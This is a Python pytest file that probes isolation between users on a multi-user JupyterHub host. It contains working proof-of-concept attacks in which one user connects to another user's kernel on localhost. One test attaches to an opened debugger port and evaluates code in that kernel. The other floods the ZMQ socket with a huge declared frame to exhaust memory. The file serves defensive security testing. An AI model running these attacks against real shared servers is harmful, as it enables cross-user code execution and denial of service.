"""Attacks on notebooks, with everything real: by users with a shell and a notebook, and by their tokens at the hub."""

from __future__ import annotations

import json
import os
import pwd
import signal
import socket
import subprocess
import sys
import textwrap
import time
from collections.abc import Iterator
from pathlib import Path

import pytest

from tests import notebooks
from tests.notebooks import Browser, Kernel, Notebooks
from tests.stack import Stack

pytestmark = [pytest.mark.skipif(bool(why := notebooks.why_not()), reason=why), pytest.mark.slow]
ALICE, BOB, ROOT = "dtnralice", "dtnrbob", "dtnrroot"
SETTINGS = """\
  named_servers: 2
"""


@pytest.fixture(scope="module")
def bed() -> Iterator[Notebooks]:
    with Notebooks(Stack(uid_min=58_800, uid_max=58_899, cgroup="dtnoter"), SETTINGS) as running:
        running.user(ROOT, "--role", "admin")
        for name in (ALICE, BOB):
            running.user(name)
            start(running, name)
        yield running


@pytest.fixture(scope="module")
def alice(bed: Notebooks) -> Iterator[Browser]:
    with bed.browser() as browser:
        browser.sign_in(ALICE, notebooks.PASSWORD)
        browser.open(f"/jupyter/user/{ALICE}/lab")
        yield browser


@pytest.fixture
def kernel(alice: Browser) -> Iterator[Kernel]:
    running = Kernel(alice, f"/jupyter/user/{ALICE}/")
    yield running
    running.close()


def start(bed: Notebooks, name: str, server: str = "") -> None:
    bed.hub_api("POST", f"/users/{name}")
    bed.hub_api("POST", f"/users/{name}/servers/{server}", {})
    until(lambda: state(bed, name, server).get("ready"))


def stop(bed: Notebooks, name: str, server: str = "") -> None:
    bed.hub_api("DELETE", f"/users/{name}/servers/{server}")
    until(lambda: not state(bed, name, server))


def state(bed: Notebooks, name: str, server: str = "") -> dict:
    found = bed.hub_api("GET", f"/users/{name}").json().get("servers", {}).get(server)
    return found if found and (found["ready"] or found["pending"]) else {}


def until(holds, seconds: float = 40.0) -> None:
    deadline = time.monotonic() + seconds
    while not holds():
        assert time.monotonic() < deadline, "it did not come about"
        time.sleep(0.1)


def as_user(name: str, code: str) -> str:
    """Run Python as a user with a shell on the host; returns what it prints."""
    account = pwd.getpwnam(name)
    done = subprocess.run(
        ["/usr/bin/python3", "-c", textwrap.dedent(code)], capture_output=True, text=True, check=False, timeout=60,
        user=account.pw_uid, group=account.pw_gid, extra_groups=[], cwd="/", env={"PATH": "/usr/bin:/bin"},
    )  # fmt: skip
    return done.stdout + done.stderr


def pids(name: str) -> list[int]:
    listed = subprocess.run(["ps", "-u", name, "-o", "pid="], capture_output=True, text=True, check=False).stdout
    return [int(word) for word in listed.split()]


def ports(name: str) -> set[int]:
    """Return the TCP ports that a user's processes listen on."""
    uid, found = str(pwd.getpwnam(name).pw_uid), set()
    for table in ("/proc/net/tcp", "/proc/net/tcp6"):
        for line in Path(table).read_text().splitlines()[1:]:
            words = line.split()
            if words[3] == "0A" and words[7] == uid:
                found.add(int(words[1].rpartition(":")[2], 16))
    return found


# -- ways into somebody else's kernel


def test_try_debugger(bed, alice, kernel) -> None:
    specs = alice.ask("GET", f"/jupyter/user/{ALICE}/api/kernelspecs").json()
    print(json.dumps(specs)[:600])
    kernel.run("secret = 42")
    print("before", ports(ALICE))
    import secrets
    asked = secrets.token_hex(8)
    header = {"msg_id": asked, "msg_type": "debug_request", "username": "", "session": asked, "version": "5.3"}
    content = {"seq": 1, "type": "request", "command": "initialize", "arguments": {"adapterID": "python"}}
    kernel._send(json.dumps({"channel": "control", "header": header, "parent_header": {}, "metadata": {}, "content": content}).encode())
    time.sleep(4)
    found = ports(ALICE)
    print("after", found)
    for port in found:
        print(port, as_user(BOB, f"""
            import socket, json, time
            s = socket.create_connection(("127.0.0.1", {port}), 3)
            s.settimeout(3)
            def say(seq, command, **arguments):
                b = json.dumps(dict(seq=seq, type="request", command=command, arguments=arguments)).encode()
                s.sendall(b"Content-Length: %d\\r\\n\\r\\n" % len(b) + b)
            try:
                say(1, "initialize", adapterID="x"); say(2, "attach")
                time.sleep(1)
                say(3, "configurationDone")
                say(4, "evaluate", expression="__import__('os').getuid()")
                time.sleep(1)
                print(s.recv(65536).decode()[:3000])
            except Exception as e: print(repr(e))
        """))


def test_try_flood(bed, alice, kernel) -> None:
    kernel.run("1")
    port = min(ports(ALICE))
    me = int(kernel.run("import os; print(os.getpid())"))
    rss = lambda: [l for l in Path(f"/proc/{me}/status").read_text().splitlines() if l.startswith("VmRSS")]
    print("rss", rss(), ports(ALICE))
    print(as_user(BOB, f"""
        import socket, struct
        s = socket.create_connection(("127.0.0.1", {port}), 3)
        s.settimeout(3)
        s.sendall(b"\\xff" + bytes(8) + b"\\x7f" + bytes([3, 0]) + b"NULL" + bytes(16) + b"\\0" + bytes(31))
        got = b""
        while len(got) < 64: got += s.recv(64)
        ready = b"\\x05READY" + b"\\x0bSocket-Type" + struct.pack(">I", 4) + b"PUSH"
        s.sendall(bytes([4, len(ready)]) + ready)
        print(s.recv(200))
        s.sendall(bytes([2]) + struct.pack(">Q", 1 << 31))
        block = bytes(1 << 20)
        s.settimeout(20)
        for n in range(400): s.sendall(block)
        print("sent")
    """))
    print("rss", rss())
    print(subprocess.run(["ps","-o","pid,rss,vsz,args","-p",str(me)],capture_output=True,text=True).stdout)
